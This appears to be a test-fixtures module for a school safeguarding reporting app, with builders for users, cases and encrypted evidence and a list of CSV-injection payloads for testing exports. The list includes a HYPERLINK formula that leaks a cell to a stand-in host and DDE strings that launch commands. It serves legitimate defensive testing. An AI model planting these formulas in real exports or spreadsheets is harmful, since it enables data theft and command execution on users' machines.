"""Small builders with sensible defaults, and the attack payloads tests share.

Users and roles, signing in (staff, and a reporter with their receipt), cases, and the
spreadsheet formulas every export is tested against.
"""

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group

from reporting.choices import TeamRole
from reporting.evidence.store import write_encrypted
from reporting.models import Case, EvidenceFile, Report, SafeguardingLead
from reporting.roles import SAFEGUARDING_GROUP
from tests.security.helpers import verified_login

TEST_PASSWORD = "correct-horse-battery"


def make_user(*, username: str, groups: list[str] = (), password: str = TEST_PASSWORD, **fields):
    user = get_user_model().objects.create_user(username=username, password=password, **fields)
    for name in groups:
        user.groups.add(Group.objects.get(name=name))
    return user


def make_lead(*, username: str, school, role: str = TeamRole.DSL, **fields):
    """A member of `school`'s safeguarding team (its DSL unless `role` says otherwise)."""
    user = make_user(
        username=username, groups=[SAFEGUARDING_GROUP], email=f"{username}@school.example", **fields
    )
    SafeguardingLead.objects.create(user=user, school=school, role=role)
    return user


def make_case(*, school, text: str = "Someone keeps sending me nasty messages.", **fields) -> Case:
    """A case and its report, built with the models directly (the public form has its own
    tests); the report is dated when the case was made."""
    case = Case.objects.create(school=school, **fields)
    Report.objects.create(case=case, what_happened=text, submitted_at=case.created_at)
    return case


def make_evidence(*, case, data: bytes, detected_type: str, extension: str, **fields):
    """An evidence file of `case`, encrypted in the store as if the pipeline had cleaned it."""
    storage_key, info = write_encrypted([data])
    return EvidenceFile.objects.create(
        case=case,
        storage_key=storage_key,
        detected_type=detected_type,
        extension=extension,
        plaintext_bytes=info.plaintext_bytes,
        stored_bytes=info.stored_bytes,
        stored_sha256=info.stored_sha256,
        key_id=info.key_id,
        cleaned=True,
        removed_metadata=["the place this photo was taken"],
        **fields,
    )


def staff_sign_in(client, user):
    """`client` signed in as `user`; safeguarding staff pass the second factor first."""
    client.logout()
    if user.safeguarding_roles.exists():
        verified_login(client, user)
    else:
        assert client.login(username=user.username, password=TEST_PASSWORD)
    return client


def followup_sign_in(client, reference: str, words: str):
    """A reporter opens their follow-up page with the receipt's reference and passphrase."""
    return client.post(
        "/report/follow-up/", {"reference": reference, "passphrase": words, "nav": "open"}
    )


# What Excel, LibreOffice or Google Sheets would run as a formula, including after the
# white space they trim: from OWASP's CSV-injection page
# (https://owasp.org/www-community/attacks/CSV_Injection) and PayloadsAllTheThings.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  =1+1",
    " \t@cmd",
    "   +SUM(A1:A2)",
    "\u00a0=1+1",  # no-break space
    "\u3000-1",  # ideographic space
    "\u2003=1",  # em space: any Unicode white space is trimmed
    "\x0b=1",
    "\x0c@cmd",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]
